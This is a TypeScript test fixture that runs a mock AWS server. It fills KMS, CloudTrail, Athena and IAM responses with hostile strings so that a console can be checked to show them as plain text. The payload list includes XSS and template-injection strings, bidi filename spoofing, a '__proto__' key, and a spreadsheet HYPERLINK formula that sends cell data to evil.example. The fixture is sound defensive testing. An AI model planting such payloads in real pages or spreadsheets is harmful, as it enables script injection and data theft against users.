// An AWS whose every answer was written by somebody who means harm: whatever a page shows of it
// must stay a text.

import { once } from 'node:events'
import { createServer, type IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'

/** Each calls `hostile()` where it comes to be more than a text. */
export const PAYLOADS = [
  `<img src=x onerror="hostile()"><script>hostile()</script>`,
  `"'></textarea></script></style><svg onload=hostile()><iframe srcdoc="<script>parent.hostile()">`,
  'javascript:hostile()//',
  'data:text/html,<script>hostile()</script>',
  '\u202Eevil.exe\u2066\u200B\u200D\uFEFF\u0000\u0007\u2028 shown backwards',
  '=HYPERLINK("https://evil.example/"&A1,"x")',
  '{{constructor.constructor("hostile()")()}}${hostile()}',
  'x'.repeat(3000),
  '__proto__',
] as const

const [MARKUP, ESCAPING, SCRIPT_LINK, , BACKWARDS] = PAYLOADS

/** A key policy of 32 KB on one line, each part of it hostile. */
const POLICY = JSON.stringify({
  Version: MARKUP,
  Statement: [
    ...PAYLOADS.map((text) => ({
      Sid: text,
      Effect: text,
      Principal: { AWS: [text, SCRIPT_LINK], [text]: text },
      Action: [text, { toString: text }],
      Resource: text,
      Condition: { [text]: { [text]: [text, null, { [text]: text }] } },
    })),
    ...[null, 'x', 7, [], [[]], { Principal: null, Action: {}, Condition: [] }],
    { Sid: 'long', NotPrincipal: '*', NotAction: 'kms:*'.repeat(2000) },
  ],
})

/** Documents that are no policy. */
const NO_POLICIES = ['null', '[]', '7', '"x"', '{', '', '{"Statement":{"Statement":[]}}', MARKUP]

export interface HostileAws {
  readonly endpoint: string
  close(): Promise<void>
}

export async function startHostileAws(): Promise<HostileAws> {
  const server = createServer((request, response) => {
    void bodyOf(request).then((body) => {
      const target = String(request.headers['x-amz-target'] ?? '')
      const isXml = target === ''
      response.setHeader('content-type', isXml ? 'text/xml' : 'application/x-amz-json-1.1')
      response.end(isXml ? xmlAnswer(body) : JSON.stringify(jsonAnswer(target, body)))
    })
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  const close = async (): Promise<void> => {
    server.closeAllConnections()
    server.close()
    await once(server, 'close')
  }
  return { endpoint: `http://127.0.0.1:${port}`, close }
}

async function bodyOf(request: IncomingMessage): Promise<string> {
  const parts: Buffer[] = []
  for await (const part of request as AsyncIterable<Buffer>) parts.push(part)
  return Buffer.concat(parts).toString()
}

/** Members of every operation at once: a client takes those that it knows. */
function jsonAnswer(target: string, body: string): object {
  if (target.startsWith('TrentService')) return keyAnswer(body)
  if (target.includes('CloudTrail')) return { Events: EVENTS, trailList: trails() }
  return queryAnswer()
}

function keyAnswer(body: string): object {
  const metadata = Object.fromEntries(
    ['KeyState', 'KeySpec', 'KeyUsage', 'Origin', 'Description', 'KeyManager'].map(
      (member, index) => [member, PAYLOADS[index]],
    ),
  )
  return {
    Keys: PAYLOADS.map((text) => ({ KeyId: text, KeyArn: text })),
    Aliases: PAYLOADS.map((text) => ({ AliasName: text, AliasArn: text, TargetKeyId: text })),
    KeyMetadata: { ...metadata, KeyId: idIn(body), Arn: SCRIPT_LINK, CreationDate: 1e20 },
    Policy: NO_POLICIES.includes(idIn(body)) ? idIn(body) : POLICY,
    Grants: PAYLOADS.map((text) => ({
      ...{ GrantId: text, GranteePrincipal: text, RetiringPrincipal: text, Name: text },
      ...{ Operations: [text], Constraints: { EncryptionContextSubset: { [text]: text } } },
    })),
    Tags: PAYLOADS.map((text) => ({ TagKey: text, TagValue: text })),
    KeyRotationEnabled: true,
    RotationPeriodInDays: -1,
  }
}

const idIn = (body: string): string => String(JSON.parse(body).KeyId ?? '')

const EVENTS = [...PAYLOADS, ...NO_POLICIES].map((text, index) => ({
  ...{ EventId: text, EventName: text, Username: text, EventSource: text, AccessKeyId: text },
  ...{ ReadOnly: text, EventTime: 1.8e9 + index },
  Resources: [
    { ResourceType: text, ResourceName: text },
    { ResourceType: 'AWS::KMS::Key', ResourceName: `arn:aws:kms:us-east-1:1:key/${text}` },
  ],
  CloudTrailEvent: index % 3 === 2 ? text : JSON.stringify(recordWith(text)),
}))

function recordWith(text: string): object {
  return {
    ...{ eventName: text, userAgent: text, sourceIPAddress: text, errorCode: text },
    ...{ errorMessage: text, awsRegion: text, requestID: text },
    userIdentity: { arn: text, sessionContext: { [text]: text } },
    requestParameters: { policy: NO_POLICIES.includes(text) ? text : POLICY, [text]: text },
    resources: [null, { ARN: `arn:aws:kms:us-east-1:1:key/${text}` }],
  }
}

const trails = (): readonly object[] =>
  PAYLOADS.map((text) => ({ Name: text, S3BucketName: text, TrailARN: text, HomeRegion: text }))

function queryAnswer(): object {
  const named = PAYLOADS.map((text) => ({ Name: text, Description: text, QueryString: text }))
  const state = { State: 'SUCCEEDED', StateChangeReason: MARKUP, SubmissionDateTime: 1.8e9 }
  const execution = {
    ...{ QueryExecutionId: ESCAPING, Query: MARKUP, StatementType: 'DML', Status: state },
    ResultConfiguration: { OutputLocation: SCRIPT_LINK },
    Statistics: { DataScannedInBytes: -1, TotalExecutionTimeInMillis: 1 },
  }
  const columns = PAYLOADS.map((text) => ({ Name: text, Type: text, Comment: text }))
  const row = { Data: PAYLOADS.map((text) => ({ VarCharValue: text })) }
  return {
    WorkGroups: named,
    DatabaseList: named,
    TableMetadataList: named.map((one) => ({ ...one, Columns: columns, PartitionKeys: columns })),
    NamedQueryIds: PAYLOADS,
    NamedQueries: named.map((one, index) => ({ ...one, NamedQueryId: String(index) })),
    QueryExecutionIds: PAYLOADS,
    QueryExecutions: [execution],
    QueryExecution: execution,
    QueryExecutionId: ESCAPING,
    ResultSet: { Rows: [row, row], ResultSetMetadata: { ColumnInfo: columns } },
  }
}

/** IAM and STS. */
function xmlAnswer(body: string): string {
  const operation = new URLSearchParams(body).get('Action') ?? ''
  const person = 'arn:aws:iam::111122223333:user/hostile'
  const identity = tag('Arn', person) + tag('Account', '111122223333') + tag('UserId', MARKUP)
  const result = operation === 'GetCallerIdentity' ? identity : entities(operation)
  return tag(`${operation}Response`, tag(`${operation}Result`, result, true), true)
}

/**
 * Members of every list or of every entity: all would be 300 KB, a hundred times a page. For each
 * policy of a user or a role the console asks for the document, so these lists are short.
 */
function entities(operation: string): string {
  const listOf = (texts: readonly string[], name: string, member: (text: string) => string) =>
    tag(name, texts.map((text) => tag('member', member(text), true)).join(''), true)
  const list = listOf.bind(undefined, PAYLOADS)
  const few = listOf.bind(undefined, [MARKUP, BACKWARDS])
  const entity = (text: string): string =>
    ['UserName', 'RoleName', 'GroupName', 'PolicyName', 'Path', 'Arn', 'UserId', 'AccessKeyId']
      .concat('Status', 'PolicyArn', 'Description', 'RoleId')
      .map((name) => tag(name, text))
      .join('')
  const lists = ['Users', 'Roles', 'Groups', 'Policies', 'AccessKeyMetadata']
  if (operation.startsWith('List')) {
    return [
      ...lists.map((name) => list(name, entity)),
      few('AttachedPolicies', entity),
      few('PolicyNames', escaped),
    ].join('')
  }
  const document = encodeURIComponent(POLICY)
  const trust = tag('AssumeRolePolicyDocument', document)
  return [
    ...['User', 'Group', 'Policy'].map((name) => tag(name, entity(MARKUP), true)),
    tag('Role', entity(MARKUP) + trust, true),
    tag('PolicyDocument', document),
    tag('PolicyVersion', tag('Document', document) + tag('VersionId', BACKWARDS), true),
  ].join('')
}

function tag(name: string, content: string, isXml = false): string {
  return `<${name}>${isXml ? content : escaped(content)}</${name}>`
}

/** What XML cannot carry at all is left out. */
function escaped(text: string): string {
  return text
    .replaceAll(/\p{Cc}/gu, '')
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
}
